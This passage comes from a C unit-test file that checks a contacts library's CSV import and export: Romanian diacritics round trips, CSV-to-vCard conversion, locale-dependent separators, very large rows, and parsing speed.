          g_assert_true (g_bytes_equal (written, rewritten));
        }
    }

  /* diacritics, comma-below and cedilla alike, through every field */
  {
    g_autoptr(GPtrArray) contacts = make_contacts (50);
    g_autoptr(GBytes) written = NULL;
    g_autoptr(GPtrArray) problems = NULL;
    g_autoptr(GPtrArray) again = NULL;
    D360ParsedContact *c = contacts->pdata[0];

    c->honorific = g_strdup ("Excelența Sa");
    c->role = g_strdup ("Şef de cabinet, ţara gazdă");
    c->address->region = g_strdup ("Argeș");
    c->address->postal_code = g_strdup ("110000");
    g_ptr_array_add (c->languages, g_strdup ("română"));
    g_ptr_array_add (c->categories, g_strdup ("Ambasade; țări terțe"));
    c->website = g_strdup ("https://ambasadă.example.ro/ăâîșț");
    written = d360_csv_write (contacts, ';');
    again = parse_ok (written, NULL, &problems);
    g_assert_cmpuint (problems->len, ==, 0);
    g_assert_cmpuint (again->len, ==, contacts->len);
    /* text only: a CSV "Type" cell holds a type or a label, not both, so the
     * labelled "Serviciu" phone of make_contacts() comes back without "cell" */
    for (guint i = 0; i < again->len; i++)
      assert_text_fields_equal (again->pdata[i], contacts->pdata[i]);
    g_assert_cmpstr (contact_at (again, 0)->role, ==, "Şef de cabinet, ţara gazdă");
    g_assert_cmpstr (string_at (contact_at (again, 0)->categories, 1), ==, "Ambasade; țări terțe");
  }
}

/* CSV in, vCard out and back: what the import of one format and the export
 * of the other do in a row. */
static void
test_to_vcard (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (samples); i++)
    for (guint v = 0; v < 2; v++)
      {
        g_autoptr(GPtrArray) problems = NULL;
        g_autoptr(GPtrArray) problems2 = NULL;
        g_autoptr(GError) error = NULL;
        g_autoptr(GPtrArray) first = parse_sample (samples[i], NULL, &problems);
        g_autoptr(GBytes) vcard = d360_vcard_write (first, v == 0 ? D360_VCARD_VERSION_3_0
                                                                  : D360_VCARD_VERSION_4_0);
        g_autoptr(GPtrArray) second = d360_vcard_parse (vcard, &problems2, &error);

        g_test_message ("%s, vCard %s", samples[i], v == 0 ? "3.0" : "4.0");
        g_assert_no_error (error);
        g_assert_cmpuint (problems2->len, ==, 0);
        g_assert_cmpuint (second->len, ==, first->len);
        for (guint j = 0; j < first->len; j++)
          {
            D360ParsedContact *c = first->pdata[j];

            /* a vCard always has a full name (FN): the name the contact is shown by */
            if (c->full_name == NULL)
              c->full_name = g_strdup (d360_parsed_contact_get_display_name (c));
            assert_text_fields_equal (c, second->pdata[j]);
          }
      }
}

static void
test_separator_for_locale (void)
{
  static const struct
  {
    const char *locale;
    char        separator;
  } cases[] = {
    { "ro_RO.UTF-8", ';' },
    { "en_US.UTF-8", ',' },
    { "C.UTF-8", ',' },
    { "C", ',' },
  };
  g_autofree char *saved = g_strdup (setlocale (LC_NUMERIC, NULL));

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      if (setlocale (LC_NUMERIC, cases[i].locale) == NULL)
        {
          g_test_message ("locale %s is not installed (tools/ensure-locales adds it)",
                          cases[i].locale);
          if (i == 0)
            g_test_incomplete ("the ro_RO.UTF-8 locale is missing");
          continue;
        }
      g_assert_cmpint (d360_csv_separator_for_locale (), ==, cases[i].separator);
    }
  setlocale (LC_NUMERIC, saved);
}

/* A row of 100 000 "Notes" columns, and a cell of 100 000 categories: what
 * used to take time that grew with the square of the row's size. */
static void
test_huge_row (void)
{
  g_autoptr(GString) text = g_string_new ("Name,Categories");
  g_autoptr(GPtrArray) problems = NULL;
  g_autoptr(GPtrArray) contacts = NULL;
  g_autoptr(GBytes) bytes = NULL;
  D360ParsedContact *c;
  const guint n = 100000;
  double cpu_start, cpu;

  for (guint i = 0; i < n; i++)
    g_string_append (text, ",Notes");
  g_string_append (text, "\r\nȘtefan Țară,\"");
  for (guint i = 0; i < n; i++)
    g_string_append_printf (text, "%sc%u", i > 0 ? ";" : "", i);
  g_string_append_c (text, '"');
  for (guint i = 0; i < n; i++)
    g_string_append_printf (text, ",rândul %u", i);
  g_string_append (text, "\r\n");
  bytes = g_string_free_to_bytes (g_steal_pointer (&text));

  cpu_start = cpu_seconds ();
  contacts = parse_ok (bytes, NULL, &problems);
  cpu = cpu_seconds () - cpu_start;
  g_test_message ("%.1f MB row read in %.3f s of CPU", g_bytes_get_size (bytes) / 1e6, cpu);

  g_assert_cmpuint (problems->len, ==, 0);
  g_assert_cmpuint (contacts->len, ==, 1);
  c = contact_at (contacts, 0);
  g_assert_cmpuint (c->categories->len, ==, 1000);   /* the first thousand are kept */
  g_assert_true (g_str_has_prefix (c->note, "rândul 0\nrândul 1\n"));
  g_assert_true (g_str_has_suffix (c->note, "\nrândul 99999"));
  g_assert_cmpfloat (cpu, <, 2.0);
}

static void
test_speed (void)
{
  g_autoptr(GPtrArray) contacts = make_contacts (100000);
  g_autoptr(GPtrArray) problems = NULL;
  g_autoptr(GPtrArray) parsed = NULL;
  g_autoptr(GBytes) bytes = NULL;
  gint64 start;
  double cpu_start, write_seconds, parse_seconds, write_cpu, parse_cpu;

  start = g_get_monotonic_time ();
  cpu_start = cpu_seconds ();
  bytes = d360_csv_write (contacts, ';');
  write_cpu = cpu_seconds () - cpu_start;
  write_seconds = (g_get_monotonic_time () - start) / 1e6;

  start = g_get_monotonic_time ();
  cpu_start = cpu_seconds ();
  parsed = parse_ok (bytes, NULL, &problems);
  parse_cpu = cpu_seconds () - cpu_start;
  parse_seconds = (g_get_monotonic_time () - start) / 1e6;

  g_test_message ("100 000 rows (%.1f MB): written in %.3f s, read in %.3f s "
                  "(CPU: %.3f s, %.3f s)",
                  g_bytes_get_size (bytes) / 1e6, write_seconds, parse_seconds, write_cpu,
                  parse_cpu);
  g_assert_cmpuint (parsed->len, ==, 100000);
  g_assert_cmpuint (problems->len, ==, 0);
  assert_text_fields_equal (parsed->pdata[99999], contacts->pdata[99999]);
  g_assert_cmpfloat (parse_cpu, <, 5.0);
  g_assert_cmpfloat (write_cpu, <, 2.0);
}

int
main (int   argc,
      char *argv[])
{
  setlocale (LC_ALL, "C.UTF-8");
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/interop/csv/google-old", test_google_old);
  g_test_add_func ("/interop/csv/google-new", test_google_new);
  g_test_add_func ("/interop/csv/outlook", test_outlook);
  g_test_add_func ("/interop/csv/unknown-layout", test_unknown_layout);
  g_test_add_func ("/interop/csv/quoted-newlines", test_quoted_newlines);
  g_test_add_func ("/interop/csv/separators", test_separators);
  g_test_add_func ("/interop/csv/bom", test_bom);
  g_test_add_func ("/interop/csv/utf16", test_utf16);
  g_test_add_func ("/interop/csv/malformed", test_malformed);
  g_test_add_func ("/interop/csv/empty", test_empty);
  g_test_add_func ("/interop/csv/binary", test_binary);
  g_test_add_func ("/interop/csv/write-format", test_write_format);
  g_test_add_func ("/interop/csv/formula-injection", test_formula_injection);
  g_test_add_func ("/interop/csv/round-trip", test_round_trip);
  g_test_add_func ("/interop/csv/to-vcard", test_to_vcard);
  g_test_add_func ("/interop/csv/separator-for-locale", test_separator_for_locale);
  g_test_add_func ("/interop/csv/huge-row", test_huge_row);
  g_test_add_func ("/interop/csv/speed", test_speed);

  return g_test_run ();
}
